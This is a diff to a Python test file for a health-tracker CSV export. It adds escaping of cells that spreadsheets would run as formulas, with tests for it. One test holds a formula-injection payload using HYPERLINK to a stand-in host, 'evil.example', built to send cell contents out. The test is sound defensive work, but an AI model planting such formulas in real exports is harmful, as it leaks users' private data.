@@ -15,6 +15,8 @@ from tracker import exports, measures
 from tracker.models import DailyEntry
 
 NOTE = 'Knees bad, "really" bad;\nwalked anyway, 2km'
+# What a spreadsheet would run as a formula at the start of a cell.
+FORMULAS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.fixture
@@ -46,7 +48,7 @@ def days(patient):
             cramp_calf=True,
             tablet_taken=False,
             missed_reason="side_effects",
-            note="",
+            note="-1 tablet, +2 walks",  # read as a formula by a spreadsheet, without the '
         ),
         DailyEntryFactory(patient=patient, day=date(2026, 3, 4), joint_pain=None),
     ]
@@ -61,13 +63,14 @@ def csv_text(patient):
 
 
 def parse(name, text):
-    """A CSV cell read back as the Python value the model field holds."""
+    """A CSV cell read back as the Python value the model field holds (a text cell without
+    the `'` put before a would-be formula, as docs/measures.md says)."""
     field = DailyEntry._meta.get_field(name)
     kind = field.get_internal_type()
     if name == "day":
         return date.fromisoformat(text)
     if kind in ("CharField", "TextField"):
-        return text
+        return text[1:] if text.startswith("'") and text[1:2] in FORMULAS else text
     if text == "":
         return None
     if kind == "BooleanField":
@@ -103,8 +106,21 @@ def test_csv_round_trips_to_the_database(patient, days):
     assert first["site_knees"] == "true"
     assert second["cramps_woke_me"] == "false"
     assert second["missed_reason"] == "side_effects"
+    assert second["note"] == "'-1 tablet, +2 walks"
     assert third["joint_pain"] == ""
     assert third["fatigue"] == ""
+
+
+@pytest.mark.parametrize("start", FORMULAS)
+def test_csv_cells_that_would_be_formulas_start_with_a_quote(patient, start):
+    """Finding 9: a note beginning with =, +, -, @, tab or CR ran as a formula in a
+    spreadsheet; it gets a `'` in front, and reads back as written without it."""
+    note = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    DailyEntryFactory(patient=patient, day=date(2026, 3, 1), note=note)
+    (row,) = read_csv(csv_text(patient))
+    assert row["note"] == "'" + note
+    assert parse("note", row["note"]) == note
+    assert parse("note", "'quoted on purpose") == "'quoted on purpose"
 
 
 def test_empty_history_gives_just_the_header(patient):
